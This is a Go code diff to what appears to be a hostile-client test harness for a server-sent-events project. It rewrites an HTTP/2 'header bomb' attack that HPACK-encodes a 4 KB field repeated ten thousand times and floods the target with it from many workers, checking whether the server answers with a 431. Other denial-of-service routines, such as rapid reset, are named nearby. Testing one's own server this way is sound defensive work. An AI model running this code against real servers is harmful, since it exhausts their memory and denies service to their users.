@@ -2,6 +2,7 @@ package main
 
 import (
 	"bufio"
+	"bytes"
 	"context"
 	"fmt"
 	"io"
@@ -13,6 +14,7 @@ import (
 	"github.com/quic-go/quic-go"
 	"github.com/quic-go/quic-go/http3"
 	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
 
 	"github.com/caddy-sse/caddy-sse/internal/hostile"
 )
@@ -133,17 +135,16 @@ func endlessHeaders(ctx context.Context, t *target) {
 
 // unfolding names a field of 4 KB ten thousand times by its place in the table.
 func unfolding(ctx context.Context, t *target) {
-	var header []string
-	for range 10_000 {
-		header = append(header, "x-bomb", strings.Repeat("~", 4000))
-	}
+	block := bomb()
 	t.flood(ctx, floodWorkers, func() string {
 		c, err := connect(t, 0, 1<<16)
 		if err != nil {
 			return "refused"
 		}
 		defer c.Close()
-		if _, err := c.Get("/events/x", header...); err != nil {
+		if err := c.Frame(func(f *http2.Framer) error {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true, EndHeaders: true})
+		}); err != nil {
 			return "closed"
 		}
 		_ = c.SetDeadline(time.Now().Add(20 * time.Second))
@@ -152,7 +153,7 @@ func unfolding(ctx context.Context, t *target) {
 			switch f := f.(type) {
 			case *http2.HeadersFrame:
 				answer = "answered"
-				if b := f.HeaderBlockFragment(); len(b) > 4 && string(b[2:5]) == "431" || strings.Contains(string(b), "431") {
+				if bytes.Contains(f.HeaderBlockFragment(), []byte("431")) { // which has no place in the static table
 					answer = "431"
 				}
 				c.Close()
@@ -165,6 +166,21 @@ func unfolding(ctx context.Context, t *target) {
 		})
 		return answer
 	})
+}
+
+// bomb is the header of a first request on a connection.
+func bomb() []byte {
+	var block bytes.Buffer
+	encoder := hpack.NewEncoder(&block)
+	field := func(name, value string) { _ = encoder.WriteField(hpack.HeaderField{Name: name, Value: value}) } // into memory
+	field(":method", http.MethodGet)
+	field(":scheme", "https")
+	field(":authority", "localhost")
+	field(":path", "/events/x")
+	for range 10_000 {
+		field("x-bomb", strings.Repeat("~", 4000))
+	}
+	return block.Bytes()
 }
 
 // rapidReset opens streams and resets them at once.
